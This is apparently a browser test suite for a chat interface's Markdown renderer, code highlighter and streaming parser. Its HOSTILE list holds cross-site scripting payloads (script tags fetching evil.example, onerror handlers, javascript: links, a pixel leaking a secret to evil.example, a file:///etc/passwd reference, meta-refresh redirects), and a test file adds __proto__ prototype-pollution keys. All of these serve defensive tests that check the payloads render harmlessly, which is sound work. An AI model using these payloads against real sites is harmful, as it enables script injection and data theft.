"""What a model writes, as nodes: Markdown, text that is against us, text that would be slow; and every split of what comes."""

from __future__ import annotations

import json
import random
import re
import time
from pathlib import Path
from typing import Any

import pytest

from tests.serve.fake_server import Answer
from tests.serve.page.conftest import SKY, Script, ask, from_script, need_browser

need_browser()
pytestmark = pytest.mark.browser


HOSTILE = [
    "<script>document.title = 'owned'; fetch('https://evil.example/')</script>",
    "<img src=x onerror=\"document.title='owned'\"> <svg onload=alert(1)> <iframe src='https://evil.example/'></iframe>",
    "[a](javascript:alert(1)) [b](  JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) <javascript:x>",
    "[e](&#106;avascript:alert(1)) [f](java\nscript:x) [g](https://good.example@evil.example) [h](\\javascript:x) [i](//evil.example)",
    "![stolen](https://evil.example/pixel.png?q=secret) ![x](file:///etc/passwd) [https://bank.example](https://evil.example/)",
    "```html\n<script>document.title='owned'</script>\n```\n\n```<img src=x onerror=alert(1)>\nx\n```",
    "`<b onclick=alert(1)>` \u202ereversed\u202c \u2066isolated\u2069 \u0000 \u001b[31mred &#x202e; &lt;script&gt;",
    "| <script>a</script> | <img src=x onerror=alert(1)> |\n|---|:-:|\n| </td></table><script>b</script> | `|` \\| |",
    "**open _marks `everywhere [and(never](closed ~~ ***\n\n> - 1. # > ```\n\n</article></li></ol></main><h1>outside</h1>",
    "<style>*{display:none}</style><base href='https://evil.example/'><meta http-equiv=refresh content='0;https://evil.example/'>",
]


def hostile_is_harmless(page: Any) -> None:
    assert page.title() != "owned"
    assert page.locator("main").locator("script, img, iframe, style, base, meta, object, embed, form[action]").count() == 0
    bad = """[...document.querySelectorAll('#messages *, aside *, header *, #toasts *')].filter((e) => [...e.attributes].some((a) =>
      a.name.startsWith('on') || ((a.name === 'href' || a.name === 'src') && e.tagName === 'A' && !/^(https?|mailto):/.test(a.value))))"""
    assert page.evaluate(f"{bad}.map((e) => e.outerHTML)") == []


def test_hostile_text(opened: Any, script: Script) -> None:
    calls = [{"tool_calls": [{"index": 0, "id": text, "function": {"name": text, "arguments": text}}]} for text in HOSTILE]
    parts = [[{"reasoning_content": text}, call, *text] for text, call in zip(HOSTILE, calls, strict=True)]
    script.answers = [Answer(part, finish="tool_calls") for part in parts]
    script.answers += [Answer(status=500, error=HOSTILE[1])]
    page = opened()
    for text in [*HOSTILE, HOSTILE[1]]:
        ask(page, text)
        hostile_is_harmless(page)
    for summary in page.locator(".thought:not([hidden]) summary").all():
        summary.click()
    hostile_is_harmless(page)
    shown = page.locator("#messages").inner_text()
    assert HOSTILE[0] in shown and "[a](javascript:alert(1))" in shown  # nothing is dropped either
    assert page.locator(".steering", has_text="U+202E").count() >= 3 and page.locator("h1").count() >= 1
    assert "(evil.example)" in page.locator("a", has_text="https://bank.example").first.evaluate("a => a.nextSibling.textContent")
    assert page.locator("main h1", has_text="outside").count() == 0
    page.reload()
    page.locator(".enter").first.click()
    hostile_is_harmless(page)


def test_a_hostile_import(opened: Any, tmp_path: Path) -> None:
    text = HOSTILE[1]
    asked = {"id": text[:40], "parent": None, "role": "user", "content": text}
    answer = {"id": "__proto__", "parent": text[:40], "role": "assistant", "content": text, "error": text, "finish": text}
    answer |= {"usage": {"prompt": text}, "times": {"first": text}, "calls": [{"function": {"name": text, "arguments": {"a": 1}}}, None]}
    options = {"__proto__": {"x": 1}, "temperature": text, "system": text}
    conversation = {"id": text, "title": text, "nodes": [asked, answer], "options": options, "leaf": "__proto__"}
    (tmp_path / "x.json").write_text(json.dumps({"kiln_page": 1, "conversations": [conversation]}))
    page = opened()
    page.set_input_files("#file", tmp_path / "x.json")
    page.wait_for_selector("article.answer")
    hostile_is_harmless(page)
    page.click("#open-settings")
    assert page.input_value("[name=temperature]") == "" and page.input_value("[name=system]") == text


def test_a_line_of_100k_characters(opened: Any, script: Script) -> None:
    script.answers = [Answer(["x" * 1000] * 100), Answer(["word and *more* "] * 6500), Answer(["```\n", *["y" * 1000] * 100, "\n```"])]
    page = opened()
    for _ in range(3):
        ask(page, "Long")
    assert page.locator("article.answer > .prose").first.inner_text() == "x" * 100_000
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth && document.getElementById('log').scrollWidth <= innerWidth")


WORST = [
    "*", "_ ", "**a ", "~~", "[", "]", "![", "[a](", "[a](b", "](", "`", "` ``", "\\", "&#", "&amp", "<", "<http://", "http://",
    "a**", "*a_", "> ", "- ", "1. ", "#", "# ", "|", "|-", "a|b\n-|-\n", "```", "```\n", "~~~\n", "\n", " ", "\t", "- a\n", " - a\n  ",
    "> - ", "$$", "\\(", "---", "- - ", "===\n", "a\n===\n", "\u202e", "e\u0301", "\U0001f600",
]  # fmt: skip


def test_no_text_is_slow(opened: Any) -> None:
    """Each of these 60,000 times over is where some renderer takes the square of the time, or too deep a tree."""
    page = opened()
    code = """({Rendering}, unit) => { const element = document.createElement('div'), began = performance.now();
      new Rendering(element).update(unit.repeat(Math.ceil(60000 / unit.length))); const took = performance.now() - began;
      const deep = (n) => { let most = 0; const walk = document.createTreeWalker(n); while (walk.nextNode()) { let d = 0;
        for (let p = walk.currentNode; p !== n; p = p.parentNode) d += 1; most = Math.max(most, d); } return most; };
      return [took, deep(element)]; }"""
    for unit in WORST:
        took, depth = from_script(page, "markdown.js", code, unit)
        assert took < 2500 and depth < 100, (unit, took, depth)


MARKDOWN = [
    ("a *b* **c** ***d*** ~~e~~ `f`", "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <del>e</del> <code>f</code></p>"),
    ("snake_case_name 2*3*4 a * b", "<p>snake_case_name 2<em>3</em>4 a * b</p>"),
    ("``a ` b`` `x", "<p><code>a ` b</code> `x</p>"),
    ("\\*a\\* &amp; &copy; &#65;", "<p>*a* &amp; &amp;copy; A</p>"),
    ("# A\n## B ##\ntext", "<h1>A</h1><h2>B</h2><p>text</p>"),
    ("A\n===\nB\n---\n\n---", "<h1>A</h1><h2>B</h2><hr>"),
    ("- a\n- b\n  - c\n\n1. x\n2. y", '<ul class="tight"><li class=""><p>a</p></li><li class=""><p>b</p>'
     '<ul class="tight"><li class=""><p>c</p></li></ul></li></ul>'
     '<ol class="tight"><li class=""><p>x</p></li><li class=""><p>y</p></li></ol>'),
    ("3. a\n\n   b\n4. c", '<ol start="3"><li class=""><p>a</p><p>b</p></li><li class=""><p>c</p></li></ol>'),
    ("> a\nb\n> > c", "<blockquote><p>a\nb</p><blockquote><p>c</p></blockquote></blockquote>"),
    ("a  \nb\\\nc<br>d", "<p>a<br>b<br>c<br>d</p>"),
    ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>"),
    ("\\(x_1 * y_1\\) and $$a*b*c$$", '<p><span class="math">\\(x_1 * y_1\\)</span> and <span class="math">$$a*b*c$$</span></p>'),
    ("a\r\nb\r\n\r\nc", "<p>a\nb</p><p>c</p>"),
]  # fmt: skip


def test_markdown(opened: Any) -> None:
    page = opened()
    code = "({Rendering}, text) => { const e = document.createElement('div'); new Rendering(e).update(text); return e.innerHTML; }"
    for text, expected in MARKDOWN:
        assert from_script(page, "markdown.js", code, text) == expected, text
    link = from_script(page, "markdown.js", code, '[a](https://x.example/a_(b) "t"), https://y.example/c_d_e. <https://z.example>')
    assert re.findall(r'href="([^"]*)"', link) == ["https://x.example/a_(b)", "https://y.example/c_d_e", "https://z.example/"]
    table = from_script(page, "markdown.js", code, "a | b\n---|--:\n1 | `x\\|y`\n2")
    assert re.sub(r"<(\w+)[^>]*>", r"<\1>", table) == (
        "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>x|y</code></td></tr></tbody></table></div><p>2</p>"
    )


CODE = [
    ("python", 'if a: # "b"\n """c\n# d"""\n return 1.5', ["word:if", 'comment:# "b"', 'string:"""c\n# d"""', "word:return", "number:1.5"]),
    ("rust", "fn f<'a>(x: &'a str) -> char { 'x' } // y", ["word:fn", "word:str", "string:'x'", "comment:// y"]),
    ("js", "const s = `a ${b}`; /* open", ["word:const", "string:`a ${b}`", "comment:/* open"]),
    ("SQL", "SELECT a -- b\nfrom c", ["word:SELECT", "comment:-- b", "word:from"]),
    ("nothing", "def f(): # x", []),
]


def test_code_is_coloured_and_stays_what_it_is(opened: Any) -> None:
    page = opened()
    code = """({coloured}, text, name) => { const e = document.createElement('div'); e.append(...coloured(text, name));
      return [e.textContent, [...e.querySelectorAll('span')].map((s) => `${s.className.slice(5)}:${s.textContent}`)]; }"""
    for name, text, expected in CODE:
        assert from_script(page, "highlight.js", code, text, name) == [text, expected], name
    for unit in ('"', "'", "`", '"""', "/*", "//", "#", "<!--", "\\", "1", "a.", "--"):
        for name in ("python", "js", "rust", "html", "sql"):
            text = unit * (19_000 // len(unit))
            began = time.monotonic()
            assert from_script(page, "highlight.js", code, text, name)[0] == text and time.monotonic() - began < 3, (unit, name)


def test_every_split_gives_the_same(opened: Any) -> None:
    """A text that came piece by piece looks as it would at once: every fixed text, and others of random pieces."""
    page, chance = opened(), random.Random(7)
    pieces = [*WORST, "word", "\n\n", "  ", "2. ", "* ", "**", "a|b", "\n|-|-|\n", "```py\n", "\n```\n", "[x](https://a.example)", "> a\n"]
    pieces += ["\n    ", "\r\n", "\n", "\n"]
    texts = [text for text, _ in MARKDOWN] + [SKY, *HOSTILE] + ["".join(chance.choices(pieces, k=30)) for _ in range(300)]
    code = """({Rendering}, texts, seed) => texts.filter((text) => {
      const whole = document.createElement('div'), grown = document.createElement('div'), rendering = new Rendering(grown);
      new Rendering(whole).update(text);
      for (let at = 0; at < text.length; at += 1 + (seed = seed * 16807 % 2147483647) % 5) rendering.update(text.slice(0, at));
      rendering.update(text);
      return whole.innerHTML !== grown.innerHTML; })"""
    assert from_script(page, "markdown.js", code, texts, 1) == []


def test_every_split_of_a_stream_gives_the_same(opened: Any) -> None:
    page = opened()
    stream = ': ping\r\n\r\nevent: x\ndata: {"a": "é😀"}\n\ndata: one\r\ndata: two\r\n\r\n:\n\ndata:[DONE]\n\ndata: unended'
    code = """async ({events}, text) => { const bytes = new TextEncoder().encode(text), found = new Set();
      for (let cut = 0; cut <= bytes.length; cut += 1) for (const size of [1, 1000]) {
        const parts = [bytes.slice(0, cut)], all = [];
        for (let at = cut; at < bytes.length; at += size) parts.push(bytes.slice(at, at + size));
        const body = new ReadableStream({start(c) { for (const p of parts) if (p.length) c.enqueue(p); c.close(); }});
        for await (const data of events(body)) all.push(data);
        found.add(JSON.stringify(all)); }
      return [...found]; }"""
    assert [json.loads(one) for one in from_script(page, "stream.js", code, stream)] == [['{"a": "é😀"}', "one\ntwo", "[DONE]", "unended"]]
